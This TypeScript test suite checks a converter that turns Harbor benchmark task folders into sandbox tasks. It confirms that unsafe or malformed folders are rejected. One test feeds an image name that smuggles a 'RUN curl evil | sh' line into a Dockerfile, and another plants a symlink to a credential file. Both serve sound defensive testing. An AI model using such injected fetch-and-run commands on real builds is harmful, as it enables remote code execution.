/**
 * `gp dataset prepare harbor` (datasets/harborPrepare.ts) on the two real, public Harbor tasks of
 * test/fixtures/formats/harbor-tasks/ (sources and licences in test/fixtures/formats/README.md) and
 * on hostile folders: a missing instruction or test.sh, bad TOML, a symbolic link leading out of the
 * task folder, a huge file, unsupported features, duplicate names. Every output is read back
 * through the schemas that declare it, and every task line through the emitted task schema.
 */
import assert from 'node:assert/strict';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { harborPrepare } from '../../server/src/cli/harborPrepareCommand.js';
import { prepareHarborDataset } from '../../server/src/datasets/index.js';
import { instanceFileSchema, prepareReportSchema } from '../../server/src/protocol/datasetPrepare.js';
import { schemaErrors, taskEntrySchema, type TaskEntry } from '../../server/src/tasks/index.js';

const fixtures = 'test/fixtures/formats/harbor-tasks';
const root = mkdtempSync(join(tmpdir(), 'gp-harbor-prepare-'));
after(() => rmSync(root, { recursive: true, force: true }));

let made = 0;
/** A fresh folder of task folders, each copied from a fixture and then changed by `edit`. */
function dataset(tasks: Record<string, { from?: string; edit?: (dir: string) => void }>): string {
  const dir = join(root, `set-${made++}`);
  mkdirSync(dir);
  for (const [name, spec] of Object.entries(tasks)) {
    const task = join(dir, name);
    cpSync(join(fixtures, spec.from ?? 'simple-task'), task, { recursive: true });
    spec.edit?.(task);
  }
  return dir;
}

function tasksOf(out: string, split = 'test'): TaskEntry[] {
  return readFileSync(join(out, `${split}.jsonl`), 'utf8')
    .split('\n')
    .filter((l) => l !== '')
    .map((line) => {
      const value: unknown = JSON.parse(line);
      assert.equal(schemaErrors(value), undefined, `${line} validates against the emitted task schema`);
      return taskEntrySchema.parse(value);
    });
}

async function prepare(dir: string, extra: Partial<Parameters<typeof prepareHarborDataset>[0]> = {}) {
  const out = join(root, `out-${made++}`);
  const report = await prepareHarborDataset({ dir, outDir: out, dataset: 'harbor/test', split: 'test', ...extra });
  assert.deepEqual(prepareReportSchema.parse(JSON.parse(readFileSync(join(out, 'prepare_report.json'), 'utf8'))), report);
  return { out, report };
}

test('the real simple task becomes a task whose verifier, image recipe, timeouts and network come from its folder', async () => {
  const { out, report } = await prepare(fixtures);
  assert.equal(report.kind, 'harbor');
  assert.equal(report.rows_read, 2);
  assert.equal(report.converted, 1);
  const [task] = tasksOf(out);
  assert.ok(task);
  assert.equal(task.task_id, 'harbor-test__simple-task');
  assert.equal(task.issue?.title, 'Simple Addition Task');
  assert.equal(task.issue?.body, readFileSync(join(fixtures, 'simple-task', 'instruction.md'), 'utf8'));
  assert.equal(task.sandbox.workdir, '/workspace', "the Dockerfile's WORKDIR");
  assert.equal(task.sandbox.network, false, 'network_mode = "no-network"');
  assert.equal(task.sandbox.requires_build, true);
  assert.equal(task.sandbox.docker_image, 'graph-planner/harbor-harbor-test__simple-task:latest');
  assert.deepEqual(task.verifier, { tests: 'harbor/harbor-test__simple-task/task/tests', timeout_sec: 60, env: {} });
  assert.equal(task.episode_timeout, 120 + 60, "the agent's and the verifier's timeouts");
  assert.deepEqual(task.sandbox.image_recipe, { dockerfile: 'harbor/harbor-test__simple-task/task/environment/Dockerfile' });
  assert.equal(task.sandbox.resources, undefined, 'the fixture names no resources');
  // The copy is the task folder byte for byte, its scripts still executable.
  for (const file of ['task.toml', 'instruction.md', 'environment/Dockerfile', 'tests/test.sh', 'solution/solve.sh']) {
    assert.deepEqual(readFileSync(join(out, 'harbor', task.task_id, 'task', file)), readFileSync(join(fixtures, 'simple-task', file)), file);
  }
  assert.ok((statSync(join(out, 'harbor', task.task_id, 'task', 'tests', 'test.sh')).mode & 0o100) !== 0);
  assert.ok(statSync(join(out, task.sandbox.local_repo ?? '')).isDirectory(), 'the local starting working directory exists, empty');
  const instance = instanceFileSchema.parse(JSON.parse(readFileSync(join(out, 'instances', `${task.task_id}.json`), 'utf8')));
  assert.deepEqual(instance.harbor?.from_images, ['python:3.11-slim']);
  assert.equal(instance.harbor?.has_solution, true);
  assert.ok(
    instance.harbor?.local_gaps.some((g) => /RUN step/.test(g)),
    'the apt-get RUN step is named as what the local copy lacks',
  );
  assert.deepEqual(report.notes, { 'harbor-docker-image-ignored': 1, 'harbor-local-workdir-partial': 1 });
  assert.match(readFileSync(join(out, 'docker_images_test.txt'), 'utf8'), /^graph-planner\/harbor-harbor-test__simple-task:latest\s+# build-only$/m);
});

test('Harbor’s template task with its empty instruction is skipped with the file named, not a crash; filled in, it converts with the defaults said', async () => {
  const { report } = await prepare(dataset({ template: { from: 'template-task' } }));
  assert.equal(report.converted, 0);
  assert.deepEqual(report.skipped_by_reason, { 'invalid-harbor-task': 1 });
  assert.match(report.skipped_examples[0]?.message ?? '', /template[/\\]instruction\.md: empty; write what the agent is asked to do$/);
  const filled = await prepare(
    dataset({ template: { from: 'template-task', edit: (d) => writeFileSync(join(d, 'instruction.md'), 'Write hello.txt in /app.\n') } }),
  );
  const [task] = tasksOf(filled.out);
  assert.equal(task?.task_id, 'template', "no [task] name: the folder's name");
  assert.equal(task?.sandbox.workdir, '/app', "the Dockerfile's WORKDIR /app");
  assert.equal(task?.verifier?.timeout_sec, 900);
  assert.equal(task?.episode_timeout, 1800);
  assert.equal(task?.sandbox.network, false);
  assert.equal(filled.report.notes['harbor-network-default-off'], 1, 'no network mode named: offline, and said');
});

test('resources, an allow-list network, a prebuilt image only and a base image replacement each reach the task and are said', async () => {
  const toml = (extra: string) => (d: string) =>
    writeFileSync(join(d, 'task.toml'), `[task]\nname = "org/t"\n[verifier]\ntimeout_sec = 30\n[verifier.env]\nMODE = "strict"\n[environment]\n${extra}\n`);
  const { out, report } = await prepare(
    dataset({
      sized: { edit: toml('cpus = 2\nmemory_mb = 4096\nstorage_mb = 10240\nnetwork_mode = "allowlist"\nworkdir = "/srv/app"') },
      prebuilt: {
        edit: (d) => {
          toml('docker_image = "python:3.11-slim"\nnetwork_mode = "public"')(d);
          writeFileSync(join(d, 'task.toml'), readFileSync(join(d, 'task.toml'), 'utf8').replace('org/t', 'org/prebuilt'));
          rmSync(join(d, 'environment'), { recursive: true });
        },
      },
    }),
    { baseImage: 'graph-planner/base:latest' },
  );
  const tasks = tasksOf(out);
  const sized = tasks.find((t) => t.task_id === 'org__t');
  assert.deepEqual(sized?.sandbox.resources, { cpus: 2, memory_mb: 4096, storage_mb: 10240 });
  assert.equal(sized?.sandbox.network, false, 'an allow-list cannot be enforced, so no network');
  assert.equal(sized?.sandbox.workdir, '/srv/app', '[environment] workdir wins over the Dockerfile');
  assert.deepEqual(sized?.verifier?.env, { MODE: 'strict' });
  assert.equal(sized?.sandbox.image_recipe?.base_image, 'graph-planner/base:latest');
  const prebuilt = tasks.find((t) => t.task_id === 'org__prebuilt');
  assert.equal(prebuilt?.sandbox.network, true);
  assert.equal(prebuilt?.sandbox.image_recipe?.dockerfile, 'harbor/org__prebuilt/image/Dockerfile');
  assert.match(readFileSync(join(out, 'harbor', 'org__prebuilt', 'image', 'Dockerfile'), 'utf8'), /^FROM python:3\.11-slim$/m);
  assert.equal(prebuilt?.sandbox.workdir, '/app');
  assert.deepEqual(report.notes, {
    'harbor-base-replaced': 2,
    'harbor-local-workdir-partial': 2,
    'harbor-network-allowlist-closed': 1,
    'harbor-storage-not-enforced': 1,
    'harbor-prebuilt-image': 1,
    'harbor-workdir-default': 1,
  });
});

test('files the Dockerfile copies into its working directory start the local working copy; what it cannot mirror is listed', async () => {
  const { out } = await prepare(
    dataset({
      copying: {
        edit: (d) => {
          mkdirSync(join(d, 'environment', 'src', 'pkg'), { recursive: true });
          writeFileSync(join(d, 'environment', 'src', 'pkg', 'mod.py'), 'X = 1\n');
          writeFileSync(join(d, 'environment', 'data.csv'), 'a,b\n');
          writeFileSync(
            join(d, 'environment', 'Dockerfile'),
            'FROM python:3.11-slim AS base\nFROM base\nWORKDIR /app\nCOPY src/ ./\nCOPY data.csv /app/inputs/\nCOPY data.csv /opt/elsewhere.csv\nCOPY --from=base /etc/hostname /app/host\nCOPY *.txt /app/\n',
          );
        },
      },
    }),
  );
  const [task] = tasksOf(out);
  assert.ok(task);
  const workdir = join(out, task.sandbox.local_repo ?? '');
  assert.equal(readFileSync(join(workdir, 'pkg', 'mod.py'), 'utf8'), 'X = 1\n', "a folder's contents go into the destination");
  assert.equal(readFileSync(join(workdir, 'inputs', 'data.csv'), 'utf8'), 'a,b\n', 'a file into a destination ending in /');
  const instance = instanceFileSchema.parse(JSON.parse(readFileSync(join(out, 'instances', `${task.task_id}.json`), 'utf8')));
  assert.deepEqual(instance.harbor?.from_images, ['python:3.11-slim'], 'a FROM naming an earlier stage is not a base');
  const gaps = instance.harbor?.local_gaps.join('\n') ?? '';
  assert.match(gaps, /line 6 .*outside the working directory/);
  assert.match(gaps, /line 7 .*another stage/);
  assert.match(gaps, /line 8 .*pattern/);
});

test('a symbolic link leading out of a task folder, or to nowhere, skips the task and nothing of it is copied', async () => {
  const secret = join(root, 'secret.txt');
  writeFileSync(secret, 'token=hunter2\n');
  const { out, report } = await prepare(
    dataset({
      leaking: { edit: (d) => symlinkSync(secret, join(d, 'tests', 'fixture.txt')) },
      dangling: { edit: (d) => symlinkSync(join(d, 'nowhere'), join(d, 'environment', 'x')) },
      inside: { edit: (d) => symlinkSync(join(d, 'tests', 'test.sh'), join(d, 'tests', 'alias.sh')) },
    }),
  );
  assert.deepEqual(report.skipped_by_reason, { 'unsafe-harbor-task': 2 }, 'only the two unsafe folders are skipped');
  const messages = report.skipped_examples.map((e) => e.message).join('\n');
  assert.match(messages, /leaking[/\\]tests[/\\]fixture\.txt is a symbolic link to .*secret\.txt, outside the task folder/);
  assert.match(messages, /dangling[/\\]environment[/\\]x is a symbolic link that points nowhere/);
  // The link that stays inside is copied as the file it names; no copy holds a link or the secret.
  const [task] = tasksOf(out);
  assert.equal(task?.task_id, 'harbor-test__simple-task');
  const alias = join(out, 'harbor', task?.task_id ?? '', 'task', 'tests', 'alias.sh');
  assert.equal(readFileSync(alias, 'utf8'), readFileSync(join(fixtures, 'simple-task', 'tests', 'test.sh'), 'utf8'));
  assert.equal(existsSync(join(out, 'harbor', 'leaking')), false);
});

test('a huge file skips its task with its size said, before anything is read', async () => {
  const { report } = await prepare(
    dataset({
      huge: {
        edit: (d) => {
          // Sparse: 300 MiB that take no disk.
          writeFileSync(join(d, 'environment', 'blob.bin'), '');
          truncateSync(join(d, 'environment', 'blob.bin'), 300 * 1024 * 1024);
        },
      },
    }),
  );
  assert.deepEqual(report.skipped_by_reason, { 'unsafe-harbor-task': 1 });
  assert.match(report.skipped_examples[0]?.message ?? '', /blob\.bin is 300 MiB, more than the 256 MiB one file of a task may be/);
  const many = await prepare(dataset({ small: {} }), { copyLimits: { files: 3, totalBytes: 1 << 30, fileBytes: 1 << 30 } });
  assert.match(many.report.skipped_examples[0]?.message ?? '', /holds more than 3 files/);
});

test('missing files, bad TOML and unsupported features are each a located reason, and the other tasks still convert', async () => {
  const { out, report } = await prepare(
    dataset({
      good: {},
      'no-tests': { edit: (d) => rmSync(join(d, 'tests'), { recursive: true }) },
      'no-instruction': { edit: (d) => rmSync(join(d, 'instruction.md')) },
      'no-environment': {
        edit: (d) => {
          rmSync(join(d, 'environment'), { recursive: true });
          writeFileSync(join(d, 'task.toml'), '[verifier]\ntimeout_sec = 5\n');
        },
      },
      'bad-toml': { edit: (d) => writeFileSync(join(d, 'task.toml'), '[task]\nname = "x"\n[verifier\ntimeout_sec = 5\n') },
      'bad-value': { edit: (d) => writeFileSync(join(d, 'task.toml'), '[verifier]\ntimeout_sec = -5\n') },
      gpus: { edit: (d) => writeFileSync(join(d, 'task.toml'), '[task]\nname = "g/pu"\n[environment]\ngpus = 1\n') },
      separate: { edit: (d) => writeFileSync(join(d, 'task.toml'), '[task]\nname = "s/ep"\n[verifier]\nenvironment_mode = "separate"\n') },
      'not-a-task': { edit: (d) => rmSync(join(d, 'task.toml')) },
    }),
  );
  assert.equal(report.converted, 1);
  assert.deepEqual(report.skipped_by_reason, { 'invalid-harbor-task': 6, 'unsupported-harbor-task': 2 });
  const text = JSON.stringify(report.skipped_examples.map((e) => e.message)) + readFileSync(join(out, 'prepare_report.json'), 'utf8');
  assert.match(text, /no-tests[/\\]tests[/\\]test\.sh: missing; the verifier writes the task's reward/);
  assert.match(text, /no-instruction[/\\]instruction\.md: missing/);
  assert.match(text, /bad-toml[/\\]task\.toml:3:\d+: not valid TOML/);
  assert.match(text, /gpus = 1: Graph Planner's sandboxes have no GPUs/);
  assert.match(text, /environment_mode = \\"separate\\"/);
  assert.equal(tasksOf(out).length, 1);
});

test('an image name that would add lines to a Dockerfile, or an env name no shell can export, skips its task', async () => {
  const { report } = await prepare(
    dataset({
      'image-lines': {
        edit: (d) => {
          rmSync(join(d, 'environment'), { recursive: true });
          writeFileSync(join(d, 'task.toml'), '[environment]\ndocker_image = "python:3.11\\nRUN curl evil | sh"\n');
        },
      },
      'env-name': { edit: (d) => writeFileSync(join(d, 'task.toml'), '[verifier.env]\n"BAD-NAME" = "1"\n') },
    }),
  );
  assert.deepEqual(report.skipped_by_reason, { 'invalid-harbor-task': 2 });
  const text = report.skipped_examples.map((e) => e.message).join('\n');
  assert.match(text, /docker_image = .*python:3\.11.*RUN curl evil.* is not an image reference/);
  assert.match(text, /\[verifier\.env\] .*BAD-NAME.* is not a shell variable name/);
});

test("two folders naming the same task keep the first; --limit stops after that many tasks; a second run replaces the first run's harbor folder", async () => {
  const dir = dataset({ a: {}, b: {} });
  const { out, report } = await prepare(dir);
  assert.deepEqual(report.skipped_by_reason, { 'duplicate-id': 1 });
  assert.match(report.skipped_examples[0]?.message ?? '', /already taken by .*[/\\]a; this folder is left out/);
  writeFileSync(join(dir, 'b', 'task.toml'), readFileSync(join(dir, 'b', 'task.toml'), 'utf8').replace('harbor-test/simple-task', 'other'));
  const limited = await prepareHarborDataset({ dir, outDir: out, dataset: 'harbor/test', split: 'test', limit: 1 });
  assert.equal(limited.converted, 1);
  const again = await prepareHarborDataset({ dir, outDir: out, dataset: 'harbor/test', split: 'test' });
  assert.equal(again.converted, 2);
  assert.deepEqual(
    tasksOf(out)
      .map((t) => t.task_id)
      .sort(),
    ['harbor-test__simple-task', 'other'],
  );
  const only = await prepareHarborDataset({ dir: join(dir, 'b'), outDir: out, dataset: 'harbor/test', split: 'test' });
  assert.equal(only.converted, 1, 'one task folder itself');
  assert.equal(existsSync(join(out, 'harbor', 'harbor-test__simple-task')), false, "the earlier run's task folder is gone with it");
});

test('the command refuses a folder that is not there and bad flags, and prints what it skipped', async () => {
  const lines: string[] = [];
  const io = { out: (t: string) => lines.push(t), err: (t: string) => lines.push(t) };
  assert.equal(await harborPrepare([join(root, 'absent')], io, root), 1);
  assert.match(lines.join('\n'), /absent is not a folder; name a folder of Harbor task folders/);
  lines.length = 0;
  assert.equal(await harborPrepare([fixtures, '--base-image', 'bad image'], io, process.cwd()), 2);
  assert.match(lines.join('\n'), /--base-image needs an image reference/);
  lines.length = 0;
  assert.equal(await harborPrepare([fixtures, '--out', join(root, 'cli-out')], io, process.cwd()), 0);
  assert.match(lines.join('\n'), /Read 2 task folders: 1 converted, 1 skipped\.\n {2}skipped invalid-harbor-task: .*instruction\.md: empty/);
});
